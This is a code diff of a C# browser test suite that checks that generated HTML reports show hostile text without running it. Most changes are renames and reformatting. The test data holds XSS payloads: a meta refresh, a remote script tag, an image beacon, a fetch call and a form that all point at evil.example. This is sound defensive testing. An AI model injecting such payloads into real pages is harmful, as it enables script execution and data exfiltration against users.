@@ -3,7 +3,6 @@ using Leo.Lab.Display.Plots;
 using Leo.Lab.Experiments.Figures;
 using Leo.Lab.Experiments.Tables;
 using Leo.Lab.Media;
-using Leo.Lab.Training;
 using static TorchSharp.torch;
 
 namespace Leo.Browser.Tests;
@@ -18,9 +17,9 @@ public sealed class ShownPageTests(Chromium chromium) : IClassFixture<Chromium>,
     // No policy can forbid a page to be left in this way; encoding has to.
     private const string Refresh = "<meta http-equiv=refresh content=0;url=https://evil.example/>";
 
-    private readonly string folder = Directory.CreateTempSubdirectory("leo-shown <b>&' ").FullName;
+    private readonly string _folder = Directory.CreateTempSubdirectory("leo-shown <b>&' ").FullName;
 
-    public void Dispose() => Directory.Delete(folder, recursive: true);
+    public void Dispose() => Directory.Delete(_folder, recursive: true);
 
     [Fact]
     public async Task Report_WithHostileTextEverywhere_ShowsItAndRunsNothing()
@@ -30,9 +29,9 @@ public sealed class ShownPageTests(Chromium chromium) : IClassFixture<Chromium>,
             .Numbers([(Attack, Attack)]).Table([Attack, Attack], [[Attack, Attack]], Attack)
             .Video(Mp4(), Attack, [Attack, Attack]).Gallery([(Mp4(), Attack)]).Picture(ImageFile.ToPng(Dots()), Attack, [Attack])
             .Chart(new SvgLineChart { Title = Attack, XLabel = Attack, YLabel = Attack, Series = [new ChartSeries(Attack, [1, 2, 3])] }, Attack);
-        foreach (IShown shown in Everything(path))
+        foreach (var shown in Everything(path))
             page.Show(shown);
-        string file = System.IO.Path.Combine(folder, "report.html");
+        string file = System.IO.Path.Combine(_folder, "report.html");
         page.Save(file);
 
         await AssertHarmless(file, figures: 3, players: 2);
@@ -42,7 +41,7 @@ public sealed class ShownPageTests(Chromium chromium) : IClassFixture<Chromium>,
     public async Task Outputs_OfANotebookWithoutAnyPolicy_RunNothingOfTheirTexts()
     {
         using var path = Path3D();
-        string file = System.IO.Path.Combine(folder, "outputs.html");
+        string file = System.IO.Path.Combine(_folder, "outputs.html");
         File.WriteAllText(file, $"<!doctype html><meta charset=utf-8><body>{string.Concat(Everything(path).Select(s => $"<div>{s.ToHtml()}</div>"))}</body>");
 
         await AssertHarmless(file, figures: 3, players: 2);
@@ -53,19 +52,25 @@ public sealed class ShownPageTests(Chromium chromium) : IClassFixture<Chromium>,
     {
         var table = new PaperTable
         {
-            Number = 1, Title = Attack, Columns = [Attack], Rows = [new TableRow(Attack, false, [])], PaperColumns = [Attack], PaperRows = [new TableRow(Attack, true, [])], Notes = [Attack],
+            Number = 1,
+            Title = Attack,
+            Columns = [Attack],
+            Rows = [new TableRow(Attack, false, [])],
+            PaperColumns = [Attack],
+            PaperRows = [new TableRow(Attack, true, [])],
+            Notes = [Attack],
         };
         var figure = new PaperFigure { Number = 4, Title = Attack, Caption = Attack, Rows = [(Attack, Moving())], Columns = 2 };
 
-        await AssertHarmless(table.Save(folder)[2]);
-        await AssertHarmless(figure.Save(folder)[2]);
+        await AssertHarmless(table.Save(_folder)[2]);
+        await AssertHarmless(figure.Save(_folder)[2]);
     }
 
     [Fact]
     public async Task Report_IntoWhichScriptGotAfterAll_DoesNotRunItOrFetchAnything()
     {
         // What encoding would have to let through first; the policy is the second wall.
-        string file = System.IO.Path.Combine(folder, "breached.html");
+        string file = System.IO.Path.Combine(_folder, "breached.html");
         string html = new HtmlReport("x", "y").Text("z").Show(new VideoPlayer(Moving())).ToHtml();
         Assert.Contains("<p>z</p>", html, StringComparison.Ordinal);
         File.WriteAllText(file, html.Replace("<p>z</p>", Attack.Replace(Refresh, "", StringComparison.Ordinal) + "<script src=https://evil.example/x.js></script><img src=https://evil.example/x.png><script>fetch('https://evil.example/')</script><form action=https://evil.example/><button id=send>go</button></form>", StringComparison.Ordinal));
